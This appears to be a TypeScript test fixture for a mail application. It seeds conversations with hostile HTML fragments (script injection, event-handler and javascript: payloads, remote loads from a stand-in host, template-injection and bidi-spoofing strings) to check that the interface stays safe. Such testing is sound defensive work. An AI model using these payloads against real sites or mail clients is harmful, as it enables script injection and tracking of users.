import { SYSTEM } from '../../store/database.ts';
import { newId } from '../../store/ids.ts';
import type { Site } from './browser.ts';
import { readCorpus } from './hostile-mail.ts';
import type { NewConversation } from './world.ts';

/** What people put in mails to make a program ask for an address, run something or hide something. */
const FRAGMENTS = [
  '<script>globalThis.pwned = 1</script><script src="http://ailleurs.example/s.js"></script>',
  '<img src="http://ailleurs.example/pixel.gif" onerror="globalThis.pwned = 1">',
  '<svg onload="globalThis.pwned = 1"><image href="http://ailleurs.example/i"/></svg>',
  '<style>@import url(http://ailleurs.example/c.css); * { background: url(http://ailleurs.example/b) }</style>',
  '<link rel="preload" href="http://ailleurs.example/l"><base href="http://ailleurs.example/">',
  '<meta http-equiv="refresh" content="0;url=http://ailleurs.example/m"><iframe src="//ailleurs.example"></iframe>',
  '<a href="javascript:globalThis.pwned=1">clic</a> [lien](javascript:pwned=1) ![](http://ailleurs.example/md)',
  '</span></div></main><form action="http://ailleurs.example/f"><input autofocus onfocus="globalThis.pwned=1">',
  '\u202Eemoc.elpmaxe\u202C \u200B\u2066x\u2069 \uFEFF {{constructor.constructor("globalThis.pwned=1")()}} ${globalThis.pwned=1}',
  '&lt;script&gt;globalThis.pwned=1&lt;/script&gt; %3Cscript%3E \u001b[2J \u0007',
];
const ALL = FRAGMENTS.join('\n');

/** One conversation with all of it in every place a sender fills. */
export const FRAGMENTS_EVERYWHERE: NewConversation = {
  subject: FRAGMENTS.join(' ').slice(0, 900),
  sender_name: FRAGMENTS[1]!,
  body: ALL,
  quoted: ALL,
  attachments: FRAGMENTS.slice(0, 4).map((name, part) => ({ name, type: 'text/html', size: 10, part })),
};

/** A thread shows 500 at once; these are enough of every kind, and quick. */
const BODIES_MAX = 200;
const BODY_CHARS = 6_000;

/** Sources of mails, shown as if they were the text: those of the public corpus where it lies beside, ours anyhow. */
export function hostileBodies(): string[] {
  const corpus = readCorpus() ?? [];
  const step = Math.max(1, Math.ceil(corpus.length / (BODIES_MAX - FRAGMENTS.length)));
  const picked = corpus.filter((_, index) => index % step === 0);
  const texts = picked.map(({ raw }) => raw.toString('latin1').replaceAll('\0', ' ').slice(0, BODY_CHARS));
  return [...FRAGMENTS, ...texts];
}

/** Adds older messages of the member to a thread. */
export async function addMessages(site: Site, conversation_id: string, bodies: readonly string[]): Promise<void> {
  const received_at = new Date(Date.now() - 48 * 3_600_000);
  await site.world.store.write(SYSTEM, (tx) =>
    tx
      .insertInto('message')
      .values(
        bodies.map((body) => {
          const id = newId(received_at.getTime());
          return {
            ...{
              id,
              conversation_id,
              direction: 'incoming' as const,
              mailbox: 'pfs-assures',
              status: 'dispatched' as const,
            },
            ...{ received_at, ingested_at: received_at, outcome: 'joined' as const, subject: 's', body, quoted: '' },
            ...{ from_address: 'membre@membre.example', from_name: body.slice(0, 60), to_addresses: [], sha256: null },
            ...{ attachments: '[]', message_id: `<${id}@membre.example>` },
          };
        }),
      )
      .execute(),
  );
}
